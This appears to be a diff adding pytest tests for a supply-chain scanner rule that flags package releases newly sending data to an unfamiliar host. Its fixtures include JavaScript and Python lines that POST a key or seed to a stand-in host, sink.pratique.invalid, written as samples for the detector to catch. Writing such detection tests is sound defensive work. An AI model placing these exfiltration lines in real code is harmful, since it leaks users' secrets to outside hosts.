@@ -1,0 +1,75 @@
+"""Data that goes to a host which the baseline never names."""
+
+import pytest
+
+from pratique.core.finding import Confidence, Severity
+from tests.analysis.inspecting import Files, npm, of_rule, package_json, wheel
+
+RULE = "new-host-reached"
+CALM = "exports.keys = seed => seed\n"
+SENDS = """exports.keys = seed => {
+  fetch('https://sink.pratique.invalid/queue', {method: 'POST', headers: {id: seed}});
+  return seed;
+};
+"""
+MANY = "".join(f"exports.a{n} = x => fetch('https://api{n}.pratique{n}.invalid/', x);\n" for n in range(4))
+
+
+def test_a_key_that_is_sent_to_a_new_host_is_held() -> None:
+    (finding,) = of_rule(npm({"index.js": SENDS}, {"index.js": CALM}), RULE)
+    assert (Severity.CRITICAL, Confidence.MEDIUM) == (finding.severity, finding.confidence)
+    assert (
+        "new in this release: fetch talks to sink.pratique.invalid, which the baseline never names"
+        == finding.message
+    )
+    assert "index.js:2" == str(finding.locations[0])
+
+
+def test_python_is_held_too_and_each_host_is_told_once() -> None:
+    sends = "import requests\ndef keys(s):\n  requests.post('https://sink.pratique.invalid/', data=s)\n"
+    found = of_rule(wheel({"a.py": sends, "b.py": sends}, {"a.py": "def keys(s): ...\n"}), RULE)
+    assert ["sink.pratique.invalid"] == [finding.evidence for finding in found]
+
+
+@pytest.mark.parametrize(
+    ("after", "before"),
+    [
+        ({"index.js": SENDS}, {"index.js": SENDS + "// less\n"}),
+        ({"index.js": SENDS}, {"index.js": "exports.at = 'https://sink.pratique.invalid/'\n"}),
+        (
+            {"index.js": SENDS.replace("'https://sink.pratique.invalid/queue'", "exports.at")},
+            {"index.js": CALM},
+        ),
+        ({"index.js": SENDS.replace("sink.pratique.invalid", "127.0.0.1")}, {"index.js": CALM}),
+        (
+            {"index.js": SENDS.replace("https://sink.pratique.invalid/queue", "pages/index.html")},
+            {"index.js": CALM},
+        ),
+        ({"index.js": CALM, "scripts/send.js": SENDS}, {"index.js": CALM}),
+        ({"index.js": SENDS + MANY}, {"index.js": MANY}),
+        ({"index.js": CALM, "again.js": SENDS}, {"old.js": SENDS, "index.js": CALM}),
+    ],
+    ids=[
+        "before",
+        "named before",
+        "no constant",
+        "this machine",
+        "no address",
+        "asked for by nobody",
+        "by trade",
+        "moved",
+    ],
+)
+def test_what_is_no_news_or_ordinary_stays_quiet(after: Files, before: Files) -> None:
+    assert [] == of_rule(npm(after, before), RULE)
+
+
+def test_the_projects_own_host_stays_quiet_unless_only_the_new_release_says_that_it_is() -> None:
+    manifest = package_json(main="index.js", homepage="https://docs.sample-project.dev/")
+    after = {"package.json": manifest, "index.js": SENDS.replace("pratique.invalid", "sample-project.dev")}
+    assert [] == of_rule(npm(after, {"package.json": manifest, "index.js": CALM}), RULE)
+    assert [] != of_rule(npm(after, {"index.js": CALM}), RULE)
+
+
+def test_without_a_baseline_it_does_not_apply() -> None:
+    assert RULE not in npm({"index.js": SENDS}).inspection.ran
